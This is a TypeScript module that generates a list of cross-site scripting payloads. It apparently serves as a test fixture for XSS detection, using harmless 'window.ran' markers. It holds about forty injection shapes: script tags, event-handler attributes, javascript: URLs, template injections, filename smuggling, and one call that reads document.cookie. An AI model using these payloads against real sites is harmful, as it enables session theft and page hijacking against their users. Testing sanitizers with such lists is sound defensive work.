const RUN = 'window.ran=1';

/** Ways by which text has become script in other people's pages; `window.ran` tells. */
const SHAPES: readonly ((run: string) => string)[] = [
  (run) => `<script>${run}</script>`, (run) => `"><script>${run}</script>`, (run) => `'><script>${run}</script>`, (run) => `</textarea><script>${run}</script>`,
  (run) => `</title><script>${run}</script>`, (run) => `<img src=x onerror="${run}">`, (run) => `"><img src=x onerror=${run}>`, (run) => `<svg onload="${run}">`,
  (run) => `<svg/onload=${run}>`, (run) => `<svg><script>${run}</script></svg>`, (run) => `<iframe srcdoc="<script>parent.${run}</script>">`,
  (run) => `<iframe src="javascript:parent.${run}">`, (run) => `<a href="javascript:${run}" autofocus onfocus="${run}">x</a>`, (run) => `<input autofocus onfocus=${run}>`,
  (run) => `<details open ontoggle=${run}>`, (run) => `<video><source onerror=${run}></video>`, (run) => `<body onload=${run}>`, (run) => `<object data="javascript:${run}">`,
  (run) => `<math><mtext></math><img src=x onerror=${run}>`, (run) => `" autofocus onfocus="${run}`, (run) => `' autofocus onfocus='${run}`,
  (run) => `\${${run}}`, (run) => `{{constructor.constructor('${run}')()}}`, (run) => `<style>@import 'data:text/css,x'</style><img src=x onerror=${run}>`,
  (run) => `<template><script>${run}</script></template><img src onerror=${run}>`, (run) => `--><img src=x onerror=${run}><!--`, (run) => `]]><img src=x onerror=${run}>`,
  (run) => `<ScRiPt>${run}</sCrIpT>`, (run) => `<img src=x onerror&#61;${run}>`, (run) => `<base href="javascript:/"><a href="//${run}">x</a>`,
  (run) => `<meta http-equiv="refresh" content="0;url=javascript:${run}">`, (run) => `<form action="javascript:${run}"><button autofocus onfocus=${run}>`,
  (run) => `../../${run}.svg`, (run) => `bukti"><img src=x onerror=${run}>.jpg`, (run) => `javascript:${run}`, (run) => `\u2028<img src=x onerror=${run}>`,
  (run) => `<noscript><p title="</noscript><img src=x onerror=${run}>">`, (run) => `<select><template><img src=x onerror=${run}></template></select>`,
  (run) => `<marquee onstart=${run}>`, (run) => `<link rel=stylesheet href="data:text/css,*{}" onload=${run}>`,
];
const CALLS: readonly string[] = [RUN, 'window[`ran`]=1', 'top.ran=1', 'self.ran=alert(1)', 'globalThis.ran=document.cookie'];

/** So many different scripts in disguise. */
export const payloads = (count: number): readonly string[] =>
  CALLS.flatMap((call) => SHAPES.map((shape) => shape(call))).slice(0, count);
